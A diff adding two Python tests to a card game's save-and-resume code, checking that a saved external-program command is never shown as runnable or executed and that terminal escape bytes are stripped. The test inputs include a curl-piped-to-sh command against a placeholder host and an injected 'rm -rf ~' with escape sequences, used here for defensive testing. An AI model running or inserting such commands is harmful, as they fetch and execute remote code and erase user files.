@@ -179,6 +179,32 @@ def test_a_state_directory_that_cannot_be_made_falls_back_to_the_current_directo
     assert f"(not saved in {blocker}/state/mille: Not a directory)" in line
 
 
+def test_the_line_after_a_game_against_a_program_never_hands_over_its_command(places):
+    """A hangup against ``exec:...``: resume with the file and --computer naming the program, its command unshown."""
+    from mille.ui.session import _Keeper
+
+    spec = "exec:curl http://example.invalid/x | sh"
+    keeper = _Keeper("mille")
+    keeper.keep(game(), 0, spec)
+    assert keeper.line is not None and keeper.saved
+    path = keeper.line.split(" is saved in ", 1)[1].split(";", 1)[0]
+    assert save.read_game(path).computer == spec  # the save keeps it: a --computer typed again runs it
+    assert keeper.line == (
+        f"mille: the game is saved in {path}; resume it with: mille {path} and --computer exec:COMMAND"
+        " naming the program it was played against (a save never runs one)"
+    )
+    keeper.keep(game(), 0, "expert")  # a built-in computer: the file alone resumes it
+    assert keeper.line is not None and keeper.line.endswith("; resume it with: mille " + keeper.line.split()[-1])
+    assert "--computer" not in keeper.line
+
+
+def test_a_save_against_a_program_resumed_shows_its_command_only_as_data() -> None:
+    line = rescue.not_run_line("g1", "exec:x'; rm -rf ~; '\x1b]0;hi\x07", "bsd")
+    assert line.startswith("mille: g1 was saved against a program, which a save never runs: bsd plays instead;")
+    assert "\x1b" not in line and "\x07" not in line
+    assert line.endswith("""(the file names "exec:x'; rm -rf ~; '\\u001b]0;hi\\u0007")""")
+
+
 @posix
 def test_no_home_falls_back_to_the_current_directory(places, monkeypatch):
     monkeypatch.delenv("XDG_STATE_HOME")
